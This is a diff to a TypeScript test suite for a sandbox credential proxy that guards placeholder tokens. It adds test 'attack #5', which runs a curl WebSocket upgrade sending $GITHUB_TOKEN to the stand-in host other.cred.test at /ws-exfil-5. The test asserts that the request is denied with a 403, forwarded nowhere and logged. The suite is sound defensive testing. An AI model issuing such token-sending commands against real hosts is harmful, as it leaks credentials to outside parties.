@@ -137,6 +137,13 @@ describe('placeholder credentials (issue 12)', () => {
     await expectLogged(name, /\/exfil-4/)
   })
 
+  it('attack #5: placeholder on a WebSocket upgrade to an unbound host → 403 credential_endpoint_mismatch, nothing forwarded, logged', async () => {
+    const r = await sh(name, `curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' -H "Authorization: Bearer $GITHUB_TOKEN" ${url('other.cred.test', '/ws-exfil-5')}`)
+    expect(r.stdout).toBe('403')
+    expect(up.seen('/ws-exfil-5')).toBe(0)
+    await expectLogged(name, /DENIED/, /\/ws-exfil-5/, /credential_endpoint_mismatch/)
+  })
+
   it('leak check: the real value is in no podshell file, no podman inspect, no /proc/*/environ of the sandbox, no log', async () => {
     const hits: string[] = []
     const walk = (d: string) => {
